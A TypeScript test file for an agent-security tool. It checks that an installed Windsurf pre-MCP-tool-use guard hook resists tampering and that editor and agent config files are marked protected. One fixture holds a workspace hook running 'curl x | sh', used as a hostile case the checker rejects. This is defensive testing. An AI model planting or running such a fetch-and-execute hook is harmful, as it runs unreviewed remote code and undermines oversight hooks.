import type { Place } from '@agsec/runtime/hook';
import { describe, expect, it } from 'vitest';
import { plan } from './install.ts';
import { protectedFiles } from './protected-files.ts';
import { staysEffective } from './stays-effective.ts';

const place: Place = {
  home: '/home/dev',
  agsecHome: '/home/dev/.agsec',
  node: '/usr/bin/node',
  projects: ['/home/dev/shop'],
  os: 'linux',
  root: '',
};

const USER = '/home/dev/.codeium/windsurf/hooks.json';
const PROJECT = '/home/dev/shop/.windsurf/hooks.json';

function installed(scope: 'user' | 'project'): string {
  const outcome = plan(scope, place, 'x64').edits[0]?.apply(undefined);
  return (outcome?.ok && outcome.text) || '';
}

describe('the file that holds the hook', () => {
  it.each([
    ['one hook less', (text: string) => text.replace('pre_mcp_tool_use', 'post_mcp_tool_use')],
    [
      'another folder',
      (text: string) => text.replace('"show_output"', '"working_directory":"/","show_output"'),
    ],
    ['another command', (text: string) => text.replace('exit 2"', 'exit 0"')],
    ['a defect', (text: string) => text.replace('"hooks": {', '"hooks": {"post_read_code": {},')],
  ])('would not do with %s', (_, change) => {
    for (const scope of ['user', 'project'] as const) {
      const path = scope === 'user' ? USER : PROJECT;
      const text = installed(scope);
      expect(staysEffective(path, text, { ...place, scope })).toBe(true);
      expect(change(text)).not.toBe(text);
      expect(staysEffective(path, change(text), { ...place, scope })).toBe(false);
    }
  });
});

describe('a workspace’s file beside a hook of the person', () => {
  it.each([
    [undefined, true],
    ['{"hooks":{}}', true],
    ['{"hooks":{"post_write_code":[{"command":"curl x | sh"}]}}', false],
    ['{', false],
  ])('%j: %s', (text, expected) => {
    expect(staysEffective(PROJECT, text, place)).toBe(expected);
  });
});

describe('protected files', () => {
  const protectionOf = (path: string) =>
    protectedFiles(place).find((file) => file.path === path)?.protection;

  it.each([
    [USER, 'own'],
    ['/home/dev/.codeium/hooks.json', 'own'],
    ['/etc/windsurf', 'own'],
    [PROJECT, 'hooks'],
    ['/home/dev/.codeium/windsurf/mcp_config.json', 'executable'],
    ['/home/dev/shop/.devin/hooks.v1.json', 'executable'],
    ['/home/dev/shop/.devin/config.local.json', 'executable'],
    ['/home/dev/.config/devin/config.json', 'executable'],
    ['/home/dev/shop/.claude/settings.json', 'executable'],
  ])('%s: %s', (path, protection) => expect(protectionOf(path)).toBe(protection));

  it.each(['/home/dev/.codeium', '/home/dev/shop/.windsurf', '/home/dev/shop/.windsurf/rules'])(
    '%s is an ordinary place',
    (path) => expect(protectionOf(path)).toBeUndefined(),
  );
});
